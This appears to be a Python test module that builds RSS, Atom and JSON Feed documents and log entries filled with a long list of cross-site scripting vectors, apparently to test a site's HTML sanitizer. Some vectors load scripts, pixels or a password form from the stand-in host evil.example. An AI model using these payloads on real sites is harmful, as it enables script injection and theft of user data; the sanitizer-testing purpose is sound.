"""Ways to bring a script into a page, as filters have met them, and documents full of them.

Each that ran would open a dialog, or ask evil.example for something.
"""

from __future__ import annotations

import json
from xml.sax.saxutils import escape, quoteattr

from sqlalchemy.orm import Session

from network.catalogue.values import Facts, Link
from network.lib.db import writing
from network.lib.text import clean
from network.log import service as log
from network.log.entry import entry_xml
from tests.sites import Node

F = "alert(1)"
EVIL = "https://evil.example"

VECTORS: tuple[str, ...] = (
    f"<script>{F}</script>",
    f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
    f"<script/x>{F}</script>",
    f"<script\n>{F}</script\n>",
    f"<<script>{F}//<</script>",
    f"<scr<script>ipt>{F}</scr</script>ipt>",
    f"<script>{F}",
    "<script src=//evil.example/x.js>",
    f"<script type=module>{F}</script>",
    f"<script src=data:text/javascript,{F}></script>",
    f"<script>/*<!--*/{F}//--></script>",
    f"</title><script>{F}</script>",
    f"</textarea><script>{F}</script>",
    f"</style></script><script>{F}</script>",
    f"--><script>{F}</script><!--",
    f"]]><script>{F}</script>",
    f"<![CDATA[<script>{F}</script>]]>",
    f"<img src=x onerror={F}>",
    f"<img src=x onerror='{F}'>",
    f"<img src=x:x onerror={F}//",
    f"<img/src=x/onerror={F}>",
    f"<img\tsrc=x\tonerror={F}>",
    f"<img\x0csrc=x\x0conerror={F}>",
    f"<IMG SRC=x oNeRrOr={F}>",
    "<img src='x' onerror=&#97;lert(1)>",
    "<img src='x' onerror=\\u0061lert(1)>",
    f"<img src=`x` onerror=`{F}`>",
    f"<img srcset=x onerror={F}>",
    f"<image src=x onerror={F}>",
    f"<img src=1 href=1 onerror={F}></img>",
    f"<img src=javascript:{F}>",
    f"<img dynsrc=javascript:{F} lowsrc=javascript:{F}>",
    f"<img src={EVIL}/pixel.gif>",
    f"<svg onload={F}>",
    f"<svg/onload={F}>",
    f"<svg><script>{F}</script></svg>",
    f"<svg><script xlink:href={EVIL}/x.js /></svg>",
    f"<svg><script>{F.replace('(', '&lpar;')}</script>",
    f"<svg><a xlink:href=javascript:{F}><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={F} attributeName=x dur=1s>",
    f"<svg><set onbegin={F} attributeName=x to=1>",
    f"<svg><a><animate attributeName=href values=javascript:{F} /><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{F}"
    "</script></svg>#x'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{F}</script>'></foreignObject></svg>",
    f"<svg><style>{{font-family:'<iframe/onload={F}>'</style></svg>",
    f"<svg><discard onbegin={F}>",
    f"<math><mi//xlink:href='javascript:{F}'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror={F}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={F}>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={F}></annotation-xml></math>",
    f"<noscript><p title='</noscript><img src=x onerror={F}>'>",
    f"<style><img title='</style><img src=x onerror={F}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={F}>'>",
    f"<noembed><img title='</noembed><img src=x onerror={F}>'></noembed>",
    f"<iframe src=javascript:{F}>",
    f"<iframe src={EVIL}/></iframe>",
    f"<iframe srcdoc='<script>parent.{F}</script>'></iframe>",
    f"<iframe srcdoc='&lt;img src=x onerror=parent.{F}&gt;'>",
    f"<iframe onload={F}>",
    f"<frameset onload={F}><frame src=javascript:{F}></frameset>",
    f"<object data=javascript:{F}>",
    f"<object data='data:text/html,<script>{F}</script>'></object>",
    f"<object data={EVIL}/x.swf type=application/x-shockwave-flash></object>",
    f"<embed src=javascript:{F}>",
    f"<embed src={EVIL}/x.svg type=image/svg+xml>",
    f"<applet code=x archive={EVIL}/x.jar></applet>",
    f"<base href={EVIL}/><script src=x.js></script>",
    f"<base href=javascript:{F}//><a href=x>x</a>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=import href={EVIL}/x.html>",
    f"<link rel=preload as=script href={EVIL}/x.js>",
    f"<meta http-equiv=refresh content='0;url=javascript:{F}'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    "<meta http-equiv=set-cookie content='a=b'>",
    f"<meta charset=utf-7>+ADw-script+AD4-{F}+ADw-/script+AD4-",
    f"<style>@import '{EVIL}/x.css';</style>",
    f"<style>*{{background:url({EVIL}/pixel.gif)}}</style>",
    f"<p style=\"background:url('{EVIL}/pixel.gif')\">x</p>",
    f"<p style='width:expression({F})'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999;background:red'>x</p>",
    f"<div style='behavior:url({EVIL}/x.htc)'>x</div>",
    f"<a href=javascript:{F}>x</a>",
    f"<a href=JaVaScRiPt:{F}>x</a>",
    f"<a href=' javascript:{F}'>x</a>",
    f"<a href='java\tscript:{F}'>x</a>",
    f"<a href='java\nscript:{F}'>x</a>",
    f"<a href='java&#10;script:{F}'>x</a>",
    f"<a href='&#x6A;avascript:{F}'>x</a>",
    f"<a href='&#0000106avascript:{F}'>x</a>",
    f"<a href='javascript&colon;{F}'>x</a>",
    f"<a href='javascript&Tab;:{F}'>x</a>",
    f"<a href='\x01javascript:{F}'>x</a>",
    f"<a href='\u2028javascript:{F}'>x</a>",
    f"<a href='vbscript:{F}'>x</a>",
    f"<a href='data:text/html,<script>{F}</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    f"<a href='blob:{EVIL}/x'>x</a>",
    f"<a href='filesystem:{EVIL}/x'>x</a>",
    f"<a href='view-source:javascript:{F}'>x</a>",
    f"<a href='//evil.example/' target=_blank onclick={F}>x</a>",
    f"<a href=x ping={EVIL}/ping onmouseover={F}>x</a>",
    "<a href='https://user:secret@evil.example/'>x</a>",
    f"<a id=x tabindex=1 onfocus={F} autofocus>x</a>",
    f"<area shape=default href=javascript:{F}><map name=x><area href=javascript:{F}></map>",
    f"<form action=javascript:{F}><input type=submit></form>",
    f"<form action={EVIL}/><input name=password><button>x</button></form>",
    f"<button formaction=javascript:{F}>x</button>",
    f"<input onfocus={F} autofocus>",
    f"<input type=image src={EVIL}/pixel.gif formaction=javascript:{F}>",
    f"<isindex action=javascript:{F} type=image>",
    f"<keygen autofocus onfocus={F}>",
    f"<select onfocus={F} autofocus><option>x</select>",
    f"<textarea onfocus={F} autofocus></textarea>",
    f"<body onload={F}>",
    f"<html onmousemove={F}>",
    f"<details open ontoggle={F}><summary>x</summary></details>",
    f"<dialog open onclose={F}><form method=dialog><button>x</button></form></dialog>",
    f"<div popover id=p onbeforetoggle={F}>x</div><button popovertarget=p>x</button>",
    f"<marquee onstart={F}>x</marquee>",
    f"<video><source onerror={F}></video>",
    f"<video src={EVIL}/x.mp4 onerror={F} autoplay></video>",
    f"<video poster=javascript:{F}></video>",
    f"<audio src=x onerror={F}>",
    f"<audio src={EVIL}/x.mp3 autoplay></audio>",
    f"<track onerror={F}>",
    f"<table background=javascript:{F}><td background={EVIL}/pixel.gif>x</table>",
    f"<blockquote cite=javascript:{F}>x</blockquote>",
    f"<q cite={EVIL}/>x</q>",
    f"<template><script>{F}</script></template>",
    f"<slot onslotchange={F}>x</slot>",
    f"<portal src={EVIL}/>",
    f"<x onclick={F}>x</x>",
    f"<x contenteditable onblur={F} onfocus={F} autofocus tabindex=1>x</x>",
    f"<x id=x style='animation:x 1s' onanimationstart={F}>x</x><style>@keyframes x{{}}</style>",
    f"<p id=results name=cookie onclick={F}>x</p><a id=body name=forms>x</a>",
    "<img name=getElementById id=querySelector src=x>",
    f"&lt;script&gt;{F}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{F}&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{F}&#60;/script&#62;",
    f"%3Cscript%3E{F}%3C/script%3E",
    f"\\x3cscript\\x3e{F}\\x3c/script\\x3e",
    f"\\u003cscript\\u003e{F}\\u003c/script\\u003e",
    f"＜script＞{F}＜/script＞",
    f"‹script›{F}‹/script›",
    f"<scrİpt>{F}</scrİpt>",
    f"<ſcript>{F}</ſcript>",
    f"<s\x00cript>{F}</s\x00cript>",
    f"<script\u2028>{F}</script>",
    f"<\u200bscript>{F}</script>",
    f"<? foo='><script>{F}</script>'>",
    f"<! foo='><script>{F}</script>'>",
    f"</ foo='><script>{F}</script>'>",
    f"<% foo><x foo='%><script>{F}</script>'>",
    f"<!--><img src=x onerror={F}>-->",
    f"<!--[if gte IE 4]><script>{F}</script><![endif]-->",
    f"<comment><img src='</comment><img src=x onerror={F}//'>",
    f"\"><script>{F}</script>",
    f"'><script>{F}</script>",
    f"\" onmouseover={F} x=\"",
    f"' autofocus onfocus={F} x='",
    f"` onmouseover={F} x=`",
    f"javascript:{F}",
    f"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/"
    f"[*/[]/+{F}//'>",
    f"{{{{constructor.constructor('{F}')()}}}}",
    f"${{{F}}}",
    f"<%= {F} %>",
    f"';{F}//\\';{F}//\";{F}//\\\";{F}//--></script>\">'><script>{F}</script>",
    f"<p>x</p>\r\nContent-Type: text/html\r\n\r\n<script>{F}</script>",
    f"[x](javascript:{F}) ![x](javascript:{F}) <javascript:{F}>",
    f"*x*<b onmouseover={F}>x</b>",
    f"<div itemprop=url content=javascript:{F}>x</div>",
    f"<menu id=x><menuitem onclick={F} label=x></menuitem></menu>",
    f"<bgsound src=javascript:{F}>",
    f"<layer src={EVIL}/x.js></layer>",
    f"<xml src={EVIL}/x.xml></xml>",
    f"<ruby oncopy={F}>x<rt>y</ruby>",
)  # fmt: skip
"""Not for a filter to know: what we show was built anew from what is allowed."""


def rss(vectors: tuple[str, ...]) -> bytes:
    """An RSS feed with an item for each vector, which is in every place that there is."""
    items = "".join(
        f"<item><title>{x}</title><description>{x}</description><category>{x}</category>"
        f"<dc:creator>{x}</dc:creator><link>{x}</link><guid isPermaLink='false'>rss {n}</guid>"
        f"<content:encoded>{x}</content:encoded><enclosure url={a} type={a} length='1'/>"
        f"<media:content url='/{n}.jpg' type={a}><media:title>{x}</media:title></media:content>"
        "</item>"
        for n, (x, a) in enumerate(map(_xml, vectors))
    )
    names = "".join(
        f" xmlns:{prefix}='{uri}'"
        for prefix, uri in {
            "dc": "http://purl.org/dc/elements/1.1/",
            "content": "http://purl.org/rss/1.0/modules/content/",
            "media": "http://search.yahoo.com/mrss/",
        }.items()
    )
    x = _xml("".join(vectors[:3]))[0]
    head = f"<title>RSS {x}</title><link>{x}</link><image><url>{x}</url></image>"
    return f"<rss version='2.0'{names}><channel>{head}{items}</channel></rss>".encode()


def atom(vectors: tuple[str, ...]) -> bytes:
    """The same in Atom."""
    entries = "".join(
        f"<entry><id>urn:x:{n}</id><title type='{'html' if n % 2 else 'text'}'>{x}</title>"
        f"<link href={a}/><link rel='enclosure' href={a} type={a} title={a}/>"
        f"<link rel='license' href={a}/><category term={a} label={a}/>"
        f"<author><name>{x}</name><uri>{x}</uri></author><summary type='html'>{x}</summary>"
        f"<content type='html'>{x}</content></entry>"
        for n, (x, a) in enumerate(map(_xml, vectors))
    )
    x, a = _xml("".join(vectors[:3]))
    head = f"<id>urn:x</id><title>Atom {x}</title><icon>{x}</icon><link href={a}/>"
    return f"<feed xmlns='http://www.w3.org/2005/Atom'>{head}{entries}</feed>".encode()


def json_feed(vectors: tuple[str, ...]) -> bytes:
    """The same in JSON Feed, which can hold what XML cannot."""
    items = [
        {"id": f"json {n}", "url": x, "title": x, "summary": x, "content_html": x, "tags": [x],
         "authors": [{"name": x, "url": x, "avatar": x}], "image": x, "language": x,
         "attachments": [{"url": x, "mime_type": x, "title": x}]}
        for n, x in enumerate(vectors)
    ]  # fmt: skip
    x = "".join(vectors[:3])
    head = {"version": "https://jsonfeed.org/version/1.1", "title": f"JSON {x}", "icon": x,
            "home_page_url": x, "favicon": x}  # fmt: skip
    return json.dumps({**head, "items": items}).encode()


def _xml(text: str) -> tuple[str, str]:
    """The text as an element's content, and as an attribute with its quotes."""
    kept = clean(text)
    return escape(kept), quoteattr(kept, {"\n": "&#10;", "\t": "&#9;"})


def publish(member: Node, vectors: tuple[str, ...]) -> None:
    """Publish an entry for each vector as a member that cares for nothing would."""
    with Session(member.engine) as session, writing(session):
        for number, vector in enumerate(vectors, 1):
            mark = "XxXxX"
            version = member.version(
                number, "en", title=mark, summary=mark, body_html=f"<p>{mark}</p>",
                legal_basis=mark, contact_role=mark,
                facts=Facts(partners=(mark,), authors=(mark,), status="running",
                            evidence=(Link("https://a.example/", mark),)),
                inspired_by=(Link("https://b.example/", mark),),
            )  # fmt: skip
            text, quoted = _xml(vector)
            xml = entry_xml(version, "Evil").decode()
            xml = xml.replace("&lt;p&gt;XxXxX&lt;/p&gt;", text).replace('"XxXxX"', quoted)
            for link in ("https://a.example/", "https://b.example/", version.url):
                xml = xml.replace(f'"{link}"', quoted)
            xml = xml.replace(mark, text)
            when = f"{version.updated:%Y-%m-%dT%H:%M:%SZ}"
            log.record(session, version.entry_id, when, xml.encode())
